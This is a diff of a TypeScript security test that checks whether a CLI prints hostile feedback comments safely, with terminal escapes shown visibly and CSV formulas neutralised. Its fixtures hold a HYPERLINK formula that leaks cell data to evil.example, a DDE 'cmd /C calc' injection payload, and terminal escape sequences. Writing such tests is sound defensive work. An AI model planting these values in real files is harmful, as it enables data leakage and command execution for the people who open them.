@@ -20,6 +20,10 @@ import { ledgerWriterDirectories } from '../../workers/main';
 import { spawnCli } from '../helpers/processes';
 import { CUTOFF_1, fillLedger } from '../releases/fixtures';
 
+/** Raw controls a terminal would obey. */
+// eslint-disable-next-line no-control-regex -- finding control characters is the point
+const RAW_CONTROLS = /[\u001b\u0007\u009b\u202e]/;
+
 /** What a rater could type into a comment: a terminal hyperlink, a title change, a bidi override, a formula. */
 const HOSTILE_COMMENT = '\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007 \u001b]0;owned\u0007 \u202egnp.exe \u009b31m =HYPERLINK("https://evil.example","x")';
 const FORMULA_COMMENT = '=HYPERLINK("https://evil.example/?leak="&A1,"details")';
@@ -343,6 +347,24 @@ describe('security: reads that cannot write (issue 12, Found 1 and 8)', function
       assert.equal(out.code, 1);
       assert.match(out.stderr, /no files, network or extensions/);
       assert.ok(!(out.stdout + out.stderr).includes(secret), 'the key was printed');
+    });
+
+    it('should print comments with terminal escapes as visible text, and CSV formulas as text (Found 8)', async () => {
+      const table = await query([`SELECT comment, prompt FROM feedback WHERE lifecycle_id = 'lc-hostile' ORDER BY comment`]);
+      assert.equal(table.code, 0, table.stderr);
+      assert.ok(!RAW_CONTROLS.test(table.stdout), `raw control characters in: ${JSON.stringify(table.stdout)}`);
+      assert.ok(table.stdout.includes('␛]8;;https://evil.example/␇click'), table.stdout);
+      assert.ok(table.stdout.includes('␇ \\u202egnp'), table.stdout);
+      const csv = await query(['--format', 'csv', `SELECT comment, prompt, -1::BIGINT AS delta FROM feedback WHERE lifecycle_id = 'lc-hostile' ORDER BY comment`]);
+      assert.equal(csv.code, 0, csv.stderr);
+      assert.ok(!RAW_CONTROLS.test(csv.stdout), JSON.stringify(csv.stdout));
+      const lines = csv.stdout.trim().split('\n');
+      assert.equal(lines[0], 'comment,prompt,delta');
+      assert.equal(lines[1], `"␛]8;;https://evil.example/␇click␛]8;;␇ ␛]0;owned␇ \\u202egnp.exe \\u009b31m =HYPERLINK(""https://evil.example"",""x"")","'@SUM(1+1)*cmd|"" /C calc""!A0",-1`);
+      assert.equal(lines[2], `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""details"")","'@SUM(1+1)*cmd|"" /C calc""!A0",-1`);
+      const json = await query(['--format', 'json', `SELECT comment FROM feedback WHERE lifecycle_id = 'lc-hostile' ORDER BY comment LIMIT 1`]);
+      assert.ok(!RAW_CONTROLS.test(json.stdout), JSON.stringify(json.stdout));
+      assert.deepEqual(JSON.parse(json.stdout), [{ comment: HOSTILE_COMMENT }], 'JSON escapes controls and still parses to the same text');
     });
   });
 
